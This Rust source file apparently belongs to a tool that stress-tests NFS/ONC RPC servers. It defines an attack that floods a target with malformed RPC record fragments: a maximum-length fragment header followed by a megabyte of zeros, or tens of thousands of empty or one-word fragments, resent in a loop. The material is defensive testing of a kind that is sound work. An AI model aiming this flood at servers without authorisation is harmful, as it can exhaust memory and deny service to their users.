//! Records that are too long, and records of very many fragments. RFC 5531 s11

use crate::Hostile;
use crate::target::Target;

/// Fragments that are sent at a time.
const FRAGMENTS: usize = 10_000;

pub struct LongRecords;

impl Hostile for LongRecords {
    fn name(&self) -> &'static str {
        "records too long"
    }

    fn attack(&self, target: &Target, number: usize) {
        let mut count = number;
        target.reconnecting(number, |peer| {
            count += 1;
            // The beginning of a call, as the longest fragment there is.
            let call = peer.record(1, nfs3::PROGRAM, 7, &[0; 64]);
            let longest = [&u32::MAX.to_be_bytes()[..], &call[4..]].concat();
            let (beginning, rest) = match count % 3 {
                0 => (longest, vec![0; 1 << 20]),
                // Fragments of nothing, and fragments of one word.
                1 => (Vec::new(), vec![0; 4 * FRAGMENTS]),
                _ => (Vec::new(), [4_u32.to_be_bytes(), [0; 4]].concat().repeat(FRAGMENTS)),
            };
            target.send(&peer.stream, &beginning);
            target.at_work(number);
            while target.send(&peer.stream, &rest) {}
        });
    }
}
